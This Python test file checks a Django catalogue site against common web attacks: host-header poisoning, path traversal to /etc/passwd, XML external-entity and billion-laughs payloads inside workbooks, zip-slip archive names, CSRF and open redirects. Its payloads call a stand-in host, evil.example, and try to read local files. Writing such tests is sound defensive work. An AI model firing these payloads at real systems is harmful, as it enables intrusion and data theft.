"""Attacks one reads about, tried here. Signing in has its own, in tests/entry; so have photographs.

What is written into every text field and read on every page is in tests/transfer/test_inert.py.
"""

import io
import time
import zipfile
from pathlib import Path

import openpyxl
import pytest
from django.test import Client

from catalog.lib.picture_files import Archive
from catalog.lib.sheets import open_sheet
from catalog.models import Find
from tests.conftest import signed_in
from tests.factories import jpeg_bytes, make_find, make_user
from tests.house import walk
from tests.house.canaries import plant

pytestmark = pytest.mark.django_db
EVIL = "evil.example"
SECRET = "zqsecretvx"
LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 12}">' if n else '<!ENTITY l0 "haha">' for n in range(9)
)


# The host


@pytest.mark.parametrize(
    "address", ["/", "/finds/", "/about/data/", "/finds.jsonl", "/admin/login/"]
)
@pytest.mark.parametrize("header", ["HTTP_HOST", "HTTP_X_FORWARDED_HOST", "HTTP_FORWARDED"])
def test_host_of_a_stranger_is_in_no_link(visitor: Client, address: str, header: str) -> None:
    value = f"host={EVIL}" if header == "HTTP_FORWARDED" else EVIL
    response = visitor.get(address, **{header: value})
    body = b"".join(response.streaming_content) if response.streaming else response.content

    assert response.status_code == (400 if header == "HTTP_HOST" else 200)
    assert EVIL not in body.decode()
    assert EVIL not in response.headers.get("Location", "")


# Paths


@pytest.mark.parametrize(
    "up", ["../" * 8, "..%2f" * 8, "%2e%2e/" * 8, "..\\" * 8, "....//" * 8, "/"]
)
@pytest.mark.parametrize("door", ["/static/", "/media/", "/media/photos/", "/finds/", "/f/"])
def test_no_path_leads_out(visitor: Client, door: str, up: str) -> None:
    response = visitor.get(f"{door}{up}etc/passwd", follow=True)
    body = b"".join(response.streaming_content) if response.streaming else response.content

    assert response.status_code == 404
    assert b"root:" not in body


# Lists and archives


def workbook(*, entities: str, cell: str) -> io.BytesIO:
    """A workbook with a document type of its own in each part that is read."""
    plain = io.BytesIO()
    book = openpyxl.Workbook()
    book.active.append(["title_en", "category"])
    book.active.append(["CELL", "helmet"])
    book.save(plain)
    packed = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(packed, "w") as target:
        for name in source.namelist():
            text = source.read(name).decode()
            if name in ("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
                head, _end, rest = (
                    text.rpartition("?>") if text.startswith("<?") else ("", "", text)
                )
                start = f"{head}?>" if head else ""
                text = f"{start}<!DOCTYPE x [{entities}]>{rest.replace('CELL', cell)}"
            target.writestr(name, text)
    packed.seek(0)
    return packed


def told(file: io.BytesIO) -> str:
    """All that is read of a list, or why nothing was."""
    try:
        with open_sheet(file) as sheet:
            return repr([sheet.header, list(sheet.rows)])
    except ValueError as error:
        return str(error)


def test_workbook_reads_no_file_of_ours(tmp_path: Path) -> None:
    (tmp_path / "secret").write_text(SECRET)
    address = (tmp_path / "secret").as_uri()

    assert SECRET not in told(workbook(entities=f'<!ENTITY e SYSTEM "{address}">', cell="&e;"))


def test_workbook_asks_nobody_elsewhere() -> None:
    """A test that reaches for the network fails by itself."""
    told(workbook(entities=f'<!ENTITY e SYSTEM "http://{EVIL}/x">', cell="&e;"))
    told(workbook(entities=f'<!ENTITY % p SYSTEM "http://{EVIL}/x"> %p;', cell="x"))


def test_workbook_that_swells_is_refused_soon() -> None:
    began = time.perf_counter()

    read = told(workbook(entities=LAUGHS, cell="&l8;"))

    assert time.perf_counter() - began < 5
    assert len(read) < 1_000_000


@pytest.mark.parametrize(
    "name",
    ["../../evil.jpg", "/etc/evil.jpg", "a/../../evil.jpg", "..\\..\\evil.jpg", "C:\\evil.jpg"],
)
def test_archive_lays_nothing_outside(name: str) -> None:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr(name, jpeg_bytes())
        archive.writestr("good.jpg", jpeg_bytes())
    archive = Archive(packed)

    assert archive.pictures() == ["good.jpg"] or not any("/" in one for one in archive.pictures())
    assert not any(".." in one or one.startswith("/") for one in archive.pictures())


# Forms


@pytest.mark.slow
def test_no_form_is_taken_without_its_token() -> None:
    nest = plant()
    strict = Client(enforce_csrf_checks=True)
    strict.force_login(make_user(is_staff=True, is_superuser=True))
    before = Find.objects.count()
    sent = {"next": "/", "delete": "yes", "post": "yes", "theme": "dark", "language": "ru"}

    tried = {one: strict.post(one, sent).status_code for one in walk.closed_addresses(nest)}
    tried |= {one: strict.post(one, sent).status_code for one in walk.addresses(nest)}

    read_only = {one for one, status in tried.items() if status in (301, 302, 404, 405)}
    assert {status for one, status in tried.items() if one not in read_only} == {403}
    assert Find.objects.count() == before


@pytest.mark.parametrize(
    "elsewhere", [f"https://{EVIL}/", f"//{EVIL}/", f"\\\\{EVIL}", f"/\\{EVIL}"]
)
@pytest.mark.parametrize("door", ["/theme/", "/veil/", "/admin/language/"])
def test_no_door_sends_one_elsewhere(visitor: Client, door: str, elsewhere: str) -> None:
    sent = {"next": elsewhere, "theme": "dark", "language": "ru", "hide": "1"}
    came_from = {"referer": f"https://{EVIL}/", "origin": "http://testserver"}
    response = visitor.post(door, sent, headers=came_from)

    assert response.status_code == 302
    assert EVIL not in response.headers["Location"]


# Roles


@pytest.mark.slow
def test_member_of_no_group_opens_nothing() -> None:
    nest = plant()
    client = signed_in(make_user(is_staff=True))

    opened = {
        one: answer.text
        for one in walk.closed_addresses(nest)
        if (answer := walk.ask(client, one)).status == 200
    }

    assert not any(word in text for text in opened.values() for word in nest.words.values())


@pytest.mark.parametrize("group", ["recorder", "reviewer"])
def test_accounts_and_rights_are_an_administrators(group: str) -> None:
    user = make_user(group)
    client = signed_in(user)
    data = {"username": user.username, "is_superuser": "on", "is_staff": "on", "is_active": "on"}

    for address in (
        "/admin/auth/user/",
        f"/admin/auth/user/{user.pk}/change/",
        "/admin/auth/group/",
    ):
        assert client.get(address).status_code in (403, 404), address
        assert client.post(address, data).status_code in (403, 404), address
    user.refresh_from_db()
    assert not user.is_superuser


def test_draft_of_another_is_not_written_by_its_address() -> None:
    find = make_find(title_en="Mine")
    client = signed_in(make_user("recorder"))

    client.post(f"/admin/catalog/find/{find.pk}/change/", {"title_en": "Taken"})

    find.refresh_from_db()
    assert find.title_en == "Mine"
